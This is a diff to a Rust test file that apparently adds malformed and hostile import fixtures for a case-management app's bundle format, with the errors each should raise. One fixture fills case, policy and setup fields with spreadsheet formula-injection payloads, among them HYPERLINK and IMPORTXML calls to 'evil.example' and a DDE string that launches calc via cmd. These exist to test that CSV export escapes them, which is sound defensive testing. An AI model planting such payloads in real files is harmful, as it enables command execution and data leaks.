@@ -70,8 +70,91 @@ fn fixtures() -> Vec<(&'static str, String)> {
         EXPORTED_AT,
     );
 
+    // Files the reliability probe of December 2026 found accepted, or refused with the wrong words.
+    let deep_setting = {
+        let data = format!("{}{}", "[".repeat(300), "]".repeat(300));
+        let records = format!(
+            r#"[{{"data":{data},"id":"deep","kind":"setting","revision":1,"updated_at":"{EXPORTED_AT}"}}]"#
+        );
+        let checksum: String =
+            bundle::sha256(records.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
+        format!(
+            r#"{{"format":"redress-bundle","format_version":1,"exported_at":"{EXPORTED_AT}","app_version":"0.1.0","scope":{{"kind":"everything"}},"records":{records},"checksum":"{checksum}"}}"#
+        ) + "\n"
+    };
+    let repeated_key =
+        valid_text.replacen("\"landlord\": ", "\"landlord\": \"<b>x</b>\",\n        \"landlord\": ", 1);
+    assert_ne!(repeated_key, valid_text);
+    let rechecked = |alter: &dyn Fn(&mut Value)| {
+        let mut value = serde_json::to_value(&valid).unwrap();
+        alter(&mut value);
+        let canonical = serde_json::to_string(&value["records"]).unwrap();
+        value["checksum"] = json!(bundle::sha256(canonical.as_bytes())
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect::<String>());
+        serde_json::to_string_pretty(&value).unwrap() + "\n"
+    };
+    let id_differs = rechecked(&|b| b["records"][0]["id"] = json!("case-other"));
+    let id_differs = id_differs.replacen("\"case_id\": \"case-7-00000\"", "\"case_id\": \"case-other\"", 1);
+    let out_of_order = rechecked(&|b| {
+        let date = b["records"][0]["data"]["events"][0]["date"].as_str().unwrap().to_string();
+        b["records"][0]["data"]["events"][1]["date"] = json!(format!("{}-01", &date[..7]));
+    });
+    let scope_mismatch = rechecked(&|b| b["scope"] = json!({"kind": "one_case", "case_id": "case-other"}));
+    let exported_yesterday = rechecked(&|b| b["exported_at"] = json!("yesterday"));
+    let uppercase_checksum = valid_text.replacen(&valid.checksum, &valid.checksum.to_uppercase(), 1);
+
+    // A register whose every text column starts like a spreadsheet formula: the association's
+    // setup, an edited policy whose stage names are formulas, and a case whose id, resident,
+    // category and handler are. Valid: the CSV export must make each cell text.
+    let formula_register = {
+        let mut policy = redress::policy::code().clone();
+        policy.id = "formula-policy".into();
+        policy.version = "1".into();
+        policy.title = "=HYPERLINK(\"http://evil.example\",\"policy\")".into();
+        for stage in &mut policy.stages {
+            stage.name = format!("=IMPORTXML(\"http://evil.example\",\"//{}\")", stage.id);
+        }
+        let mut case: Value = sample_case();
+        let id = "=HYPERLINK(\"http://evil.example\",\"case\")";
+        case["id"] = json!(id);
+        case["policy_id"] = json!("formula-policy");
+        case["policy_version"] = json!("1");
+        case["landlord"] = json!("+SUM(1,1)");
+        case["resident"]["name"] = json!("+1+cmd|' /C calc'!A0");
+        case["category"] = json!("-2+3");
+        case["handler"] = json!("@SUM(1,2)");
+        let setup = json!({
+            "organisation": "Formula Homes",
+            "policy_id": "formula-policy",
+            "policy_version": "1",
+            "division": "england-and-wales",
+            "handlers": ["@SUM(1,2)"],
+        });
+        bundle::export(
+            vec![
+                saved(RecordKind::Case, id, case),
+                saved(RecordKind::Policy, "formula-policy@1", serde_json::to_value(&policy).unwrap()),
+                saved(RecordKind::Setting, "association", setup),
+            ],
+            Scope::Everything,
+            EXPORTED_AT,
+        )
+        .to_json_pretty()
+            + "\n"
+    };
+
     vec![
-        ("valid-one-case.json", valid_text + "\n"),
+        ("valid-one-case.json", valid_text.clone() + "\n"),
+        ("formula-register.json", formula_register),
+        ("deep-setting.json", deep_setting),
+        ("repeated-key.json", repeated_key + "\n"),
+        ("id-differs.json", id_differs),
+        ("events-out-of-order.json", out_of_order),
+        ("scope-mismatch.json", scope_mismatch),
+        ("exported-at-not-a-time.json", exported_yesterday),
+        ("uppercase-checksum.json", uppercase_checksum + "\n"),
         ("differing-one-case.json", differing.to_json_pretty() + "\n"),
         ("not-json.json", "{\n  \"format\": \"redress-bundle\",\n  \"records\": [\n".to_string()),
         (
@@ -126,6 +209,26 @@ fn each_fixture_gives_its_own_result() {
     check("newer-version.json", Err((BundleErrorKind::NewerVersion, "newer version of Redress")));
     check("checksum-mismatch.json", Err((BundleErrorKind::ChecksumMismatch, "changed or damaged")));
     check("invalid-record.json", Err((BundleErrorKind::InvalidRecord, "Record 1 in this file (a case")));
+    check("formula-register.json", Ok(3));
+    check("deep-setting.json", Err((BundleErrorKind::TooDeep, "more than 100 levels deep")));
+    check(
+        "repeated-key.json",
+        Err((BundleErrorKind::DuplicateKey, "\"records[0].data.landlord\" is written twice")),
+    );
+    check(
+        "id-differs.json",
+        Err((
+            BundleErrorKind::IdMismatch,
+            "kept under the id \"case-other\", but the case inside it has the id",
+        )),
+    );
+    check("events-out-of-order.json", Err((BundleErrorKind::InvalidRecord, "events must be in date order")));
+    check(
+        "scope-mismatch.json",
+        Err((BundleErrorKind::ScopeMismatch, "says it holds one case, \"case-other\"")),
+    );
+    check("exported-at-not-a-time.json", Err((BundleErrorKind::Malformed, "\"exported_at\" is wrong")));
+    check("uppercase-checksum.json", Err((BundleErrorKind::BadChecksum, "64 lower-case letters and digits")));
 }
 
 #[test]
